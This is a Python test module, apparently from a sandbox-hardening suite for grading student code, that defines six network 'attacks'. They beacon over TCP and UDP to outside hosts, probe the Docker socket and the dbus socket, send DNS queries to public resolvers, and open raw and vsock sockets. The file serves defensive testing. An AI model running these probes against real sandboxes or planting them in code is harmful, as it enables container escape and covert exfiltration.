"""Attacks that speak to the outside: to our listeners on this machine, who hear of it when one gets
through, and to the internet.
"""

from __future__ import annotations

from tests.hostile.attack import Attack
from tests.hostile.student_code import spying

FAMILY = "network"

ATTACKS = [
    Attack(
        "calls_home_by_tcp",
        FAMILY,
        "to hand what it finds to a machine outside, by TCP over IPv4 and IPv6",
        spying("""
            import socket
            for host in (*BEACONS.get("hosts", ()), "127.0.0.1", "::1", "1.1.1.1"):
                try:
                    with socket.create_connection((host, BEACONS.get("tcp", 9)), timeout=0.3) as connection:
                        connection.sendall(NAME.encode())
                        won(f"a TCP connection to {host}")
                except OSError:
                    pass
        """),
    ),
    Attack(
        "calls_home_by_udp",
        FAMILY,
        "the same by UDP, which needs no answer",
        spying("""
            import socket
            hosts = (*BEACONS.get("hosts", ()), "127.0.0.1", "255.255.255.255")
            for family, hosts in ((socket.AF_INET, hosts), (socket.AF_INET6, ("::1",))):
                try:
                    with socket.socket(family, socket.SOCK_DGRAM) as sender:
                        for host in hosts:
                            try:
                                sender.sendto(NAME.encode(), (host, BEACONS.get("udp", 9)))
                            except OSError:
                                pass
                except OSError:
                    pass
        """),
    ),
    Attack(
        "calls_home_by_abstract_socket",
        FAMILY,
        "a Unix socket without a file, which no view of the disk hides",
        spying("""
            import socket
            import os
            names = set()
            if os.path.exists("/proc/net/unix"):
                names |= {line.split()[-1] for line in open("/proc/net/unix") if "@" in line}
            names |= {"@" + BEACONS.get("abstract", ""), "@/tmp/.X11-unix/X0", "@/containerd-shim"}
            for name in names:
                try:
                    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
                        connection.settimeout(0.3)
                        connection.connect("\\0" + name[1:])
                        connection.sendall(NAME.encode())
                        won("the abstract socket " + name)
                except OSError:
                    pass
        """),
    ),
    Attack(
        "calls_home_by_socket_file",
        FAMILY,
        "a Unix socket on the disk: docker's, the bus's, ours beside the course",
        spying("""
            import socket
            for path in (BEACONS.get("path", ""), "/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket",
                         "/run/systemd/journal/socket", "/dev/log"):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    try:
                        with socket.socket(socket.AF_UNIX, kind) as connection:
                            connection.settimeout(0.3)
                            connection.connect(path)
                            connection.sendall(NAME.encode())
                            won("the socket " + path)
                    except OSError:
                        pass
        """),
    ),
    Attack(
        "asks_the_name_server",
        FAMILY,
        "loot in the host names that it looks up",
        spying("""
            import os, re, socket
            socket.setdefaulttimeout(0.3)
            servers = ["127.0.0.53", "8.8.8.8", *BEACONS.get("hosts", ())]
            if os.path.exists("/etc/resolv.conf"):
                servers += re.findall(r"nameserver (\\S+)", open("/etc/resolv.conf").read())
                won("the name servers of this machine")
            query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
            for server in servers:
                for port in (53, BEACONS.get("udp", 9)):
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                        sender.settimeout(0.2)
                        try:
                            sender.sendto(query, (server, port))
                            sender.recv(512)
                            won("an answer of the name server " + server)
                        except OSError:
                            pass
        """),
    ),
    Attack(
        "makes_raw_sockets",
        FAMILY,
        "packets that no firewall rule for TCP or UDP sees; the machine's interfaces",
        spying("""
            import socket
            kinds = ((socket.AF_PACKET, socket.SOCK_RAW, 0x0300), (socket.AF_INET, socket.SOCK_RAW, 1), (40, socket.SOCK_STREAM, 0))
            for family, kind, protocol in kinds:
                try:
                    sender = socket.socket(family, kind, protocol)
                    if family == 40:  # AF_VSOCK: a virtual machine's way to its host
                        sender.settimeout(0.3)
                        sender.connect((2, 22))
                    won(f"a raw socket of family {family}")
                except OSError:
                    pass
            if others := [name for _, name in socket.if_nameindex() if name != "lo"]:
                won(f"the interfaces {others}")
        """),
    ),
]
